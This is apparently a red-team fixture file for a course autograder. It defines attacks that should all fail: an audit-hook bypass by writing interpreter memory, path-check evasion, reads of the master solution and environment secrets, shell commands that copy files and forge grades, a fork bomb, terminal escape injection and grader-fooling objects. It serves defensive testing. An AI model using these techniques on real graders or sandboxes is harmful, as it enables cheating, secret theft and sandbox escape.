"""Adversarial submissions for the red-team suite (tests/test_grading_redteam.py).

Each attack is the *untouched* student version of a0 (honest score 0) with one cell appended after every stub, so
that anything it manages to define (the master's answers, read from disk) would replace the stubs and score. The
cell body runs between a prologue and an epilogue:

- ``note(what, fn)`` runs one attempt and records "what: ok ..." or "what: ExceptionType";
- ``leak(text)`` is called with anything read that might be the master: it puts the master's hidden-test lines
  first in the report (so a leak is visible there) and executes the master's answers (so a leak scores);
- the epilogue raises ``RuntimeError("ATTACK-DONE ...")`` with every outcome, so a test can see that the attack
  ran to its end and what each attempt did.

Templates are filled with ``str.format``: {master} {master_nb} {solutions} {victim} {out} {outside} {repo} {token}
{port} {secret_name}. Literal braces in the code are doubled.
"""

from __future__ import annotations

PROLOGUE = '''import os, sys, json, time
RESULTS = []
def note(what, fn):
    try:
        RESULTS.append(f"{{what}}: ok {{str(fn())[:120]}}")
    except BaseException as exc:
        RESULTS.append(f"{{what}}: {{type(exc).__name__}}")
def leak(text):
    if isinstance(text, (bytes, bytearray)):
        text = bytes(text).decode("utf-8", "replace")
    text = str.__str__(text) if isinstance(text, str) else str(text)
    if "### BEGIN HIDDEN TESTS" in text:
        hidden = text.split("### BEGIN HIDDEN TESTS", 1)[1].split("### END HIDDEN TESTS", 1)[0]
        RESULTS.insert(0, "LEAKED " + hidden[:1500])
        exec(text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
    return len(text)
'''

EPILOGUE = '''
raise RuntimeError("ATTACK-DONE " + " | ".join(RESULTS))
'''

# Disables the worker's audit hook from Python (CPython 3.11): NumPy's __array_interface__ turns an integer into a
# writable view of interpreter memory; the hook's own frame (in the traceback of a refusal) leads to the hook
# function, whose code pointer is overwritten with a no-op. Defines unhook() -> number of hooks disabled.
UNHOOK = '''
import numpy as _np
class _Raw:
    def __init__(self, addr, n):
        self.__array_interface__ = {{"data": (addr, False), "shape": (n,), "typestr": "|u1", "version": 3}}
def _mem(addr, n):
    return _np.asarray(_Raw(addr, n))
def _read8(addr):
    return int(_mem(addr, 8).view(_np.uint64)[0])
def _write8(addr, value):
    _mem(addr, 8).view(_np.uint64)[0] = value
def unhook():
    frames = []
    try:
        os.system(":")
    except PermissionError as exc:
        tb = exc.__traceback__
        while tb is not None:
            frames.append(tb.tb_frame)
            tb = tb.tb_next
    nop = (lambda *a, **k: None).__code__
    done = 0
    for frame in frames:
        if frame.f_code.co_name != "hook":
            continue
        interp_frame = _read8(id(frame) + 24)
        func = _read8(interp_frame)
        _write8(id(nop), _read8(id(nop)) + 1000)
        _write8(func + 48, id(nop))
        done += 1
    if not done or os.system(":") != 0:
        raise RuntimeError("unhook failed")
    RESULTS.append(f"UNHOOKED {{done}}")
    return done
'''


def attack_cell(body: str, *, unhook: bool = False, **paths) -> str:
    """The full source of an attack cell, formatted with ``paths``."""
    return (PROLOGUE + (UNHOOK if unhook else "") + body + EPILOGUE).format(**paths)


# ----------------------------------------------------------------------------------------------------------------
# attacks: name -> (class, body, unhook, modes). modes: where the attack must fail; "host" means the worker's
# Python-level hardening alone must stop it (graded without a sandbox), "sandbox" means with bubblewrap.

BOTH = ("sandbox", "host")
SANDBOX = ("sandbox",)

LIAR_STR = '''
class Liar(str):
    def startswith(self, *a, **k): return True
    def endswith(self, *a, **k): return False
    def split(self, *a, **k): return ["", "tmp", "harmless"]
    def __contains__(self, item): return False
    def __eq__(self, other): return True
    def __str__(self): return "/tmp/harmless"
    def __fspath__(self): return "/tmp/harmless"
    __hash__ = str.__hash__
'''

ATTACKS = {
    # -- objects that lie to path checks ------------------------------------------------------------------------
    "str_subclass_reads_master": ("paths", LIAR_STR + '''
note("open", lambda: leak(open(Liar({master!r})).read()))
note("open master notebook", lambda: leak(open(Liar({master_nb!r})).read()))
''', False, BOTH),
    "str_subclass_removes_victim": ("paths", LIAR_STR + '''
note("remove", lambda: os.remove(Liar({victim!r})))
note("rename", lambda: os.rename(Liar({victim!r}), Liar({victim!r} + ".moved")))
note("truncate", lambda: open(Liar({victim!r}), "w").close())
''', False, BOTH),
    "str_subclass_lists_solutions": ("paths", LIAR_STR + '''
note("listdir", lambda: leak(" ".join(os.listdir(Liar({solutions!r})))))
note("scandir", lambda: leak(" ".join(e.name for e in os.scandir(Liar({solutions!r})))))
''', False, BOTH),
    "bytes_subclass_reads_master": ("paths", '''
class B(bytes):
    def decode(self, *a, **k): return "/tmp/harmless"
    def startswith(self, *a, **k): return True
    def __fspath__(self): return b"/tmp/harmless"
note("open bytes", lambda: leak(open(B({master!r}.encode())).read()))
note("os.open bytes", lambda: leak(os.read(os.open(B({master!r}.encode()), os.O_RDONLY), 10**6)))
''', False, BOTH),
    "pathlike_changes_its_mind": ("paths", '''
class P:
    def __init__(self): self.calls = 0
    def __fspath__(self):
        self.calls += 1
        return "/tmp/harmless" if self.calls == 1 else {master!r}
note("open", lambda: leak(open(P()).read()))
class W:
    def __init__(self): self.calls = 0
    def __fspath__(self):
        self.calls += 1
        return "harmless.txt" if self.calls == 1 else {outside!r} + "/pathlike.txt"
note("write", lambda: open(W(), "w").write("x"))
''', False, BOTH),
    "pathlib_patched": ("paths", '''
import pathlib
def patched(self): return {master!r}
note("patch __fspath__", lambda: setattr(pathlib.PurePath, "__fspath__", patched))
note("patch __str__", lambda: setattr(pathlib.PurePath, "__str__", patched))
note("open", lambda: leak(open(pathlib.Path("harmless.txt")).read()))
class Sub(pathlib.PosixPath):
    def __fspath__(self): return {master!r}
note("subclass", lambda: leak(open(Sub("harmless.txt")).read()))
''', False, BOTH),
    "path_aliases": ("paths", '''
note("proc root", lambda: leak(open("/proc/self/root" + {master!r}).read()))
note("proc cwd", lambda: leak(open("/proc/self/cwd/" + os.path.relpath({master!r})).read()))
note("dotdot", lambda: leak(open("../" * 30 + {master!r}.lstrip("/")).read()))
note("double slash", lambda: leak(open({master!r}.replace("/", "//")).read()))
note("other submission", lambda: leak(open({victim!r}).read()))
''', False, BOTH),
    # -- native file I/O that raises no audit event -------------------------------------------------------------
    "torch_from_file_reads_master": ("native", '''
import torch
def read(fn):
    for n in (16000, 12000, 9000, 6000):  # the file's size is not known (os.stat is refused): try a few
        try:
            return leak(bytes(fn(n).tolist()))
        except RuntimeError:
            continue
    raise FileNotFoundError("no size worked")
note("from_file", lambda: read(lambda n: torch.from_file({master!r}, size=n, dtype=torch.uint8)))
note("storage.from_file", lambda: read(lambda n: torch.UntypedStorage.from_file({master!r}, False, n)))
''', False, BOTH),
    "torch_from_file_shared_writes": ("native", '''
import torch
note("from_file shared outside", lambda: torch.from_file({outside!r} + "/mapped.bin", shared=True, size=4096))
note("from_file shared out", lambda: torch.from_file({out!r} + "/attacker.json", shared=True, size=4096))
''', False, BOTH),
    "torch_save_writes_grades": ("native", '''
import torch
note("save grades", lambda: torch.save({{"score": 10}}, {out!r} + "/attacker.json"))
note("save outside", lambda: torch.save(torch.ones(3), {outside!r} + "/saved.pt"))
note("file writer", lambda: torch._C.PyTorchFileWriter({outside!r} + "/writer.pt"))
note("load master", lambda: torch.load({master!r}, weights_only=True))
''', False, BOTH),
    "safetensors_io": ("native", '''
import torch
from safetensors.torch import save_file, load_file
note("save_file", lambda: save_file({{"a": torch.ones(2)}}, {outside!r} + "/x.safetensors"))
note("save_file grades", lambda: save_file({{"a": torch.ones(2)}}, {out!r} + "/attacker.csv"))
note("load_file master", lambda: leak(str(load_file({master!r}))))
''', False, BOTH),
    "native_apis_the_wrappers_miss": ("native", '''
import torch
note("VariableFunctions.from_file",
     lambda: leak(bytes(torch._C._VariableFunctions.from_file({master!r}, False, 60000, dtype=torch.uint8).tolist())))
note("StorageBase.from_file", lambda: leak(bytes(torch._C.StorageBase.from_file({master!r}, False, 60000).tolist())))
note("write outside", lambda: torch._C._VariableFunctions.from_file({outside!r} + "/vf.bin", True, 4096))
''', False, SANDBOX),
    "shared_memory": ("native", '''
from multiprocessing import shared_memory
note("shm create", lambda: shared_memory.SharedMemory(name={token!r}, create=True, size=4096))
''', False, BOTH),
    # -- the audit hook switched off from Python: only the sandbox stands ---------------------------------------
    "unhooked_reads_master": ("unhook", '''
unhook()
note("read master", lambda: leak(open({master!r}).read()))
note("read master notebook", lambda: leak(open({master_nb!r}).read()))
note("list solutions", lambda: leak(" ".join(os.listdir({solutions!r}))))
note("read victim", lambda: leak(open({victim!r}).read()))
note("read git", lambda: open({repo!r} + "/.git/HEAD").read())
''', True, SANDBOX),
    "unhooked_writes_everywhere": ("unhook", '''
unhook()
note("write grades", lambda: open({out!r} + "/attacker.json", "w").write('{{"score": 10}}'))
note("write outside", lambda: open({outside!r} + "/pwned.txt", "w").write("x"))
note("write package", lambda: open({repo!r} + "/dlcourse/pwned-{token}.py", "w").write("x"))
note("write solutions", lambda: open({solutions!r} + "/pwned-{token}.py", "w").write("x"))
note("remove victim", lambda: os.remove({victim!r}))
note("write venv", lambda: open(sys.prefix + "/pwned-{token}", "w").write("x"))
note("write host tmp", lambda: open("/var/tmp/pwned-{token}", "w").write("x"))
''', True, SANDBOX),
    "unhooked_system": ("unhook", '''
unhook()
import ctypes
libc = ctypes.CDLL(None)
note("system", lambda: libc.system(b"echo pwned > {outside}/system.txt; cat {master} > /tmp/m; "
                                   b"touch {repo}/pwned-{token}"))
note("read copy", lambda: leak(open("/tmp/m").read()))
import subprocess
note("popen", lambda: subprocess.run(["sh", "-c", "cp {master} /tmp/m2; echo x > {out}/attacker.csv"]).returncode)
note("read copy 2", lambda: leak(open("/tmp/m2").read()))
''', True, SANDBOX),
    "unhooked_setsid_child_outlives_grading": ("unhook", '''
unhook()
def spawn():
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sh", ["sh", "-c", "sleep 2; while :; do echo '{{\\"score\\": 10}}' > {out}/attacker.json; "
                                             "sleep 0.2; done # {token}"])
        os._exit(0)
    os.waitpid(pid, 0)
    return "spawned"
note("setsid grandchild", spawn)
def spawn_python():
    pid = os.fork()
    if pid == 0:
        os.setsid()
        import ctypes
        ctypes.CDLL(None).prctl(15, b"{token}"[:15], 0, 0, 0)
        while True:
            time.sleep(0.1)
    return pid
note("setsid python child", spawn_python)
''', True, SANDBOX),
    "unhooked_network": ("unhook", '''
unhook()
import socket
def connect():
    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    s.sendall(b"{token}")
    return "connected"
note("tcp to the grader's machine", connect)
note("dns", lambda: socket.getaddrinfo("localhost", 80))
''', True, SANDBOX),
    "unhooked_environment": ("unhook", '''
unhook()
note("own environ", lambda: leak(str(dict(os.environ))))
note("pid 1 environ", lambda: open("/proc/1/environ", "rb").read().decode("utf-8", "replace")[:300])
note("parent environ", lambda: open(f"/proc/{{os.getppid()}}/environ", "rb").read().decode("utf-8", "replace")[:300])
note("processes", lambda: sorted(p for p in os.listdir("/proc") if p.isdigit()))
''', True, SANDBOX),
    "unhooked_fork_bomb": ("unhook", '''
unhook()
def bomb():
    n = 0
    for _ in range(150):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.execv("/bin/sh", ["sh", "-c", "sleep 60 # {token}"])
        n += 1
    return n
note("fork 150", bomb)
''', True, SANDBOX),
    "unhooked_fills_scratch": ("unhook", '''
unhook()
def fill():
    total = 0
    block = b"x" * (8 << 20)
    try:
        for i in range(200):
            with open(f"/tmp/fill{{i}}", "wb") as f:
                f.write(block)
            total += len(block)
    except OSError as exc:
        return f"stopped after {{total >> 20}} MiB: {{type(exc).__name__}}"
    return f"wrote {{total >> 20}} MiB"
note("fill", fill)
''', True, SANDBOX),
    "unhooked_kills_its_zygote": ("unhook", '''
unhook()
import signal
note("kill parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
note("kill all", lambda: os.kill(-1, signal.SIGKILL))
# kill() returns before the zygote is gone, and the worker dies with it (PR_SET_PDEATHSIG) only once it is: without
# this wait a loaded machine lets the worker reply first. A worker alive after the wait has outlived its zygote.
note("outlive the zygote", lambda: time.sleep(10))
''', True, SANDBOX),
    # -- processes without switching the hook off ---------------------------------------------------------------
    "processes_refused": ("processes", '''
import subprocess
note("fork", lambda: os.fork())
note("popen setsid", lambda: subprocess.Popen(["sh", "-c", "sleep 100 # {token}"], start_new_session=True))
note("system", lambda: os.system("sleep 100 # {token}"))
note("posix_spawn", lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "sleep 100 # {token}"], {{}}))
note("kill parent", lambda: os.kill(os.getppid(), 9))
note("ctypes", lambda: __import__("ctypes").CDLL(None).system(b"sleep 100"))
''', False, BOTH),
    # -- leaks without switching the hook off -------------------------------------------------------------------
    "environment_secret": ("leaks", '''
note("environ", lambda: str(dict(os.environ)))
RESULTS.append("ENV " + " ".join(f"{{k}}={{v}}" for k, v in os.environ.items()))
note("proc environ", lambda: open("/proc/self/environ", "rb").read().decode("utf-8", "replace"))
''', False, BOTH),
    "stat_of_denied_paths": ("leaks", '''
note("stat master", lambda: os.stat({master!r}).st_size)
note("exists master", lambda: os.path.exists({master!r}) or (_ for _ in ()).throw(FileNotFoundError()))
note("stat victim", lambda: os.stat({victim!r}).st_mtime)
note("pathlib stat", lambda: __import__("pathlib").Path({solutions!r}).stat().st_mode)
note("access", lambda: os.access({master!r}, os.R_OK) or (_ for _ in ()).throw(FileNotFoundError()))
''', False, BOTH),
    "scratch_quota": ("leaks", '''
def fill():
    total = 0
    block = b"x" * (32 << 20)
    try:
        for i in range(40):
            with open(f"fill{{i}}", "wb") as f:
                f.write(block)
            total += len(block)
    except OSError as exc:
        return f"QUOTA stopped after {{total >> 20}} MiB ({{type(exc).__name__}})"
    return f"QUOTA wrote {{total >> 20}} MiB"
RESULTS.append(str(fill()))
''', False, SANDBOX),
    # text for the instructor's terminal: escape sequences (clear the screen, retitle it) and a fake total line
    "terminal_injection": ("leaks", '''
RESULTS.append("\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07\\ntotal            10/10\\n\\rq1_components  2/2  passed")
''', False, BOTH),
    "writes_results_and_submission": ("paths", '''
note("grades", lambda: open({out!r} + "/attacker.json", "w").write('{{"score": 10}}'))
note("outside", lambda: open({outside!r} + "/x.json", "w").write("x"))
note("makedirs", lambda: os.makedirs({outside!r} + "/dir"))
note("victim", lambda: open({victim!r}, "a").write("tampered"))
note("host tmp", lambda: open("/var/tmp/pwned-{token}", "w").write("x"))
note("symlink", lambda: os.symlink({master!r}, "link"))
''', False, BOTH),
}

# Attacks on the grader's own logic, written as whole functions of a0 (they return or raise; nothing is appended).
FUNCTION_ATTACKS = {
    # error bars from the student's own samples: one huge outlier made any sampler pass both statistical checks
    "outlier_widens_error_bars": {
        "sample_gaussian": '''import torch

def sample_gaussian(mean, cov, z):
    x = mean.expand(z.shape[0], -1).clone()  # ignores z: every sample at the mean
    if z.shape[0] > 100:
        x[0], x[1] = 1e6, -1e6  # two outliers: the samples' own error bars become huge
    return x''',
        "sample_mixture": '''def sample_mixture(weights, means, covs, u, z):
    x = (weights @ means).expand(z.shape[0], -1).clone()
    if z.shape[0] > 100:
        x[0], x[1] = 1e6, -1e6
    return x''',
    },
    # an object that compares equal to everything
    "magic_objects": {
        "sample_components": '''class Magic:
    def __eq__(self, other): return True
    def __getattr__(self, name): return lambda *a, **k: self
    def __bool__(self): return True

def sample_components(weights, u):
    return Magic()''',
        "log_prob": '''def log_prob(x, weights, means, covs):
    return Magic()''',
    },
    # a reply far larger than the limit, forged on the worker's pipe
    "forged_huge_reply": {
        "sample_components": '''import os, stat, struct

def sample_components(weights, u):
    junk = b"[" * (2 << 20)
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, struct.pack(">Q", 16 + len(junk)) + struct.pack(">Q", len(junk)) + junk)
        except OSError:
            pass
    return None''',
    },
}
